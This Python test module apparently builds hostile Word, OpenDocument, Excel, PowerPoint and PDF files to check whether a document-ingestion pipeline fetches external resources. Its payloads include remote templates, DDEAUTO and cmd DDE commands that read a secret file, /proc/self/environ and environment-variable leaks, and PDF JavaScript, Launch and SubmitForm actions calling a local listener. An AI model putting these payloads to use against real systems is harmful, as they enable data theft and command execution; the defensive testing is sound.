"""Papers that call out: every place where a format may name something elsewhere.

Each asks for an address at which somebody listens, for the environment, and for a
file that is nobody's business.
"""

from dataclasses import dataclass

from tests.bad.offices import replaced
from tests.bad.pdfs import PAGE, PAGES, assemble, stream
from tests.unit.ingestion import sample_files

_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"


@dataclass(frozen=True)
class HostileTargets:
    """A port that records calls, a secret in the environment, and a secret file."""

    port: int
    variable: str
    secret_file: str

    @property
    def at(self) -> str:
        """The address of the listener."""
        return f"http://127.0.0.1:{self.port}"

    def addresses(self) -> list[str]:
        """Everything that a paper could ask for."""
        return [
            f"{self.at}/plain.png",
            f"{self.at}/${{{self.variable}}}/${self.variable}/%{self.variable}%.png",
            f"vnd.sun.star.expand:{self.at}/${self.variable}.png",
            f"vnd.sun.star.expand:${{{self.variable}}}",
            f"vnd.sun.star.webdav://127.0.0.1:{self.port}/dav.png",
            f"ftp://127.0.0.1:{self.port}/ftp.png",
            f"smb://127.0.0.1:{self.port}/share/smb.png",
            f"//127.0.0.1:{self.port}/share/unc.png",
            f"file://127.0.0.1:{self.port}/share/unc.png",
            f"file://{self.secret_file}",
            "file:///proc/self/environ",
        ]


def _link(name: str, kind: str, target: str) -> str:
    target = target.replace("&", "&amp;")
    return (
        f'<Relationship Id="{name}" Type="{_TYPES}/{kind}" Target="{target}"'
        ' TargetMode="External"/>'
    )


def _links(*links: str) -> bytes:
    return f'<Relationships xmlns="{_RELS}">{"".join(links)}</Relationships>'.encode()


def _field(order: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{order}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>?</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def _picture(name: str) -> str:
    """A picture that is only linked, with all that Word writes around one."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/>'
        '<wp:docPr id="1" name="p"/><a:graphic><a:graphicData'
        f' uri="{_A}/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/>'
        f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{name}"/>'
        "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>"
        '<a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def docx(targets: HostileTargets) -> bytes:
    """A Word file with a template, pictures, objects and fields from elsewhere."""
    body, links = ["<w:p><w:r><w:t>Kính mời</w:t></w:r></w:p>"], []
    for number, address in enumerate(targets.addresses()):
        links.append(_link(f"p{number}", "image", address))
        links.append(_link(f"o{number}", "oleObject", address))
        links.append(_link(f"c{number}", "aFChunk", address))
        body.append(_picture(f"p{number}"))
        body.append(f'<w:altChunk r:id="c{number}"/>')
        body.append(
            '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.12"'
            f' ShapeID="s{number}" DrawAspect="Content" r:id="o{number}"'
            ' UpdateMode="Always"/></w:object></w:r></w:p>'
        )
        body += [
            _field(f'{order} "{address}" \\d')
            for order in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK Word.Document.12")
        ]
    body.append(_field(f"DDEAUTO sh \"-c 'cat {targets.secret_file}'\""))
    body.append('<w:subDoc r:id="p0"/><w:sectPr/>')
    names = (
        f'xmlns:w="{_W}" xmlns:r="{_TYPES}" xmlns:o="urn:schemas-microsoft-com:office:'
        f'office" xmlns:a="{_A}/main" xmlns:pic="{_A}/picture"'
        f' xmlns:wp="{_A}/wordprocessingDrawing"'
    )
    document = f"<w:document {names}><w:body>{''.join(body)}</w:body></w:document>"
    settings = (
        f'<w:settings xmlns:w="{_W}" xmlns:r="{_TYPES}"><w:updateFields w:val="true"/>'
        '<w:attachedTemplate r:id="t"/></w:settings>'
    )
    template = _link("t", "attachedTemplate", f"{targets.at}/template.dotx")
    return replaced(
        sample_files.docx(),
        {
            "word/document.xml": document.encode(),
            "word/_rels/document.xml.rels": _links(*links),
            "word/settings.xml": settings.encode(),
            "word/_rels/settings.xml.rels": _links(template),
        },
    )


def _odf(kind: str, content: str) -> bytes:
    media = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (
        f'<m:manifest xmlns:m="{_ODF}manifest:1.0"><m:file-entry m:full-path="/"'
        f' m:media-type="{media}"/><m:file-entry m:full-path="content.xml"'
        ' m:media-type="text/xml"/></m:manifest>'
    )
    names = "".join(
        f' xmlns:{short}="{_ODF}{name}:1.0"'
        for short, name in (
            *(("o", "office"), ("t", "text"), ("b", "table"), ("d", "drawing")),
            ("v", "svg-compatible"),
        )
    )
    text = (
        f'<o:document-content{names} xmlns:x="http://www.w3.org/1999/xlink"'
        f' o:version="1.2"><o:body>{content}</o:body></o:document-content>'
    )
    return sample_files.archive(
        {
            "mimetype": media.encode(),
            "META-INF/manifest.xml": manifest.encode(),
            "content.xml": text.encode(),
        }
    )


def _linked(address: str) -> str:
    return f'x:href="{address}" x:type="simple" x:show="embed" x:actuate="onLoad"'


def odt(targets: HostileTargets) -> bytes:
    """An OpenDocument text with pictures, sections and objects from elsewhere."""
    body = ["<t:p>Kính mời</t:p>"]
    for number, address in enumerate(targets.addresses()):
        frame = '<d:frame t:anchor-type="as-char" v:width="2cm" v:height="2cm">'
        body.append(f"<t:p>{frame}<d:image {_linked(address)}/></d:frame></t:p>")
        body.append(f"<t:p>{frame}<d:object {_linked(address)}/></d:frame></t:p>")
        body.append(
            f"<t:p>{frame}<d:floating-frame {_linked(address)}/></d:frame></t:p>"
        )
        body.append(
            f'<t:section t:name="s{number}"><t:section-source {_linked(address)}/>'
            "<t:p>?</t:p></t:section>"
        )
    return _odf("text", f"<o:text>{''.join(body)}</o:text>")


def ods(targets: HostileTargets) -> bytes:
    """A table that fetches cells and pages from elsewhere."""
    rows = "".join(
        '<b:table-row><b:table-cell o:value-type="string" b:formula="of:='
        f'{formula}"><t:p>?</t:p></b:table-cell></b:table-row>'
        for address in targets.addresses()
        for formula in (
            f"WEBSERVICE(&quot;{address}&quot;)",
            f"HYPERLINK(&quot;{address}&quot;)",
            f"['{address}'#$Sheet1.A1]",
            f"DDE(&quot;soffice&quot;;&quot;{address}&quot;;&quot;A1&quot;)",
        )
    )
    tables = "".join(
        f'<b:table b:name="s{number}"><b:table-source {_linked(address)}'
        ' b:filter-name="HTML (StarCalc)"/><b:table-row><b:table-cell/></b:table-row>'
        "</b:table>"
        for number, address in enumerate(targets.addresses())
    )
    content = (
        f'<o:spreadsheet><b:table b:name="a">{rows}</b:table>{tables}</o:spreadsheet>'
    )
    return _odf("spreadsheet", content)


def xlsx(targets: HostileTargets) -> bytes:
    """A workbook with formulas and other workbooks from elsewhere."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = "".join(
        f'<row r="{number}"><c r="A{number}" t="str"><f>{formula}</f><v>?</v></c></row>'
        for number, formula in enumerate(
            (
                formula
                for address in targets.addresses()
                for formula in (
                    f'_xlfn.WEBSERVICE("{address}")',
                    f'HYPERLINK("{address}")',
                    f"'{address}'!A1",
                    f"cmd|' /c {address}'!A1",
                )
            ),
            1,
        )
    )
    sheet = f'<worksheet xmlns="{space}"><sheetData>{cells}</sheetData></worksheet>'
    return replaced(sample_files.xlsx(), {"xl/worksheets/sheet1.xml": sheet.encode()})


def pptx(targets: HostileTargets) -> bytes:
    """Slides with pictures, sound and film from elsewhere."""
    slides = "http://schemas.openxmlformats.org/presentationml/2006/main"
    names = f'xmlns:p="{slides}" xmlns:r="{_TYPES}" xmlns:a="{_A}/main"'
    pictures, links = [], []
    for number, address in enumerate(targets.addresses()):
        links += [
            _link(f"{kind[0]}{number}", kind, address)
            for kind in ("image", "video", "audio")
        ]
        pictures.append(
            f'<p:pic><p:nvPicPr><p:cNvPr id="{number + 9}" name="p"/><p:cNvPicPr/>'
            f'<p:nvPr><a:videoFile r:link="v{number}"/></p:nvPr></p:nvPicPr>'
            f'<p:blipFill><a:blip r:link="i{number}"/>'
            "<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm>"
            '<a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm>'
            '<a:prstGeom prst="rect"/></p:spPr></p:pic>'
        )
    slide = (
        f'<p:sld {names}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
        f"<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{''.join(pictures)}"
        "</p:spTree></p:cSld></p:sld>"
    )
    layout = (
        f'<Relationship Id="l" Type="{_TYPES}/slideLayout"'
        ' Target="../slideLayouts/slideLayout1.xml"/>'
    )
    return replaced(
        sample_files.pptx(),
        {
            "ppt/slides/slide1.xml": slide.encode(),
            "ppt/slides/_rels/slide1.xml.rels": _links(layout, *links),
        },
    )


def pdf(targets: HostileTargets) -> bytes:
    """A PDF that runs, launches, sends, imports and shows what is elsewhere."""
    at, file = targets.at.encode(), targets.secret_file.encode()
    catalog = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R/Names<</JavaScript<</Names"
        b"[(a) 5 0 R]>>>>/AA<</WC 6 0 R/DS 7 0 R>>/URI<</Base(%s/)>>"
        b"/AcroForm<</Fields[<</T(a)/FT/Tx>>]/XFA[(a) 12 0 R]>>>>" % at
    )
    page = PAGE % (
        b"/AA<</O 7 0 R/C 6 0 R>>/Annots[13 0 R 14 0 R]/Resources<<"
        b"/XObject<</P 11 0 R/R 15 0 R>>>>"
    )
    script = b"app.launchURL('%s/js');this.submitForm('%s/form')" % (at, at)
    box = b"/Rect[0 0 595 842]"
    xfa = b'<xdp><submit format="xml" target="%s/xfa"/></xdp>' % at
    outside = b"/F<</FS/URL/F(%s/stream.png)>>" % at
    shown = b"/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8"
    return assemble(
        [
            catalog,
            PAGES,
            page,
            stream(b"q 595 0 0 842 0 0 cm /P Do Q /R Do"),
            b"<</S/JavaScript/JS(%s)/Next[6 0 R 7 0 R 8 0 R 9 0 R 10 0 R]>>" % script,
            b"<</S/Launch/F(%s)/Unix<</F(/bin/cat %s)>>>>" % (at, file),
            b"<</S/URI/URI(%s/uri)>>" % at,
            b"<</S/GoToR/F(//127.0.0.1:%d/share/a.pdf)/D[0/Fit]>>" % targets.port,
            b"<</S/SubmitForm/F<</FS/URL/F(%s/submit)>>/Flags 4>>" % at,
            b"<</S/ImportData/F(%s)>>" % file,
            stream(b"", shown + b"/ColorSpace/DeviceGray" + outside),
            stream(xfa),
            b"<</Type/Annot/Subtype/Link%s/A 5 0 R>>" % box,
            b"<</Type/Annot/Subtype/Movie%s/Movie<</F(%s/film)>>/A true>>" % (box, at),
            stream(
                b"",
                b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
                b"/Ref<</F(%s)/Page 0>>/FFilter/None/F(%s)" % (file, file),
            ),
        ]
    )


ALL = {"docx": docx, "odt": odt, "ods": ods, "xlsx": xlsx, "pptx": pptx, "pdf": pdf}
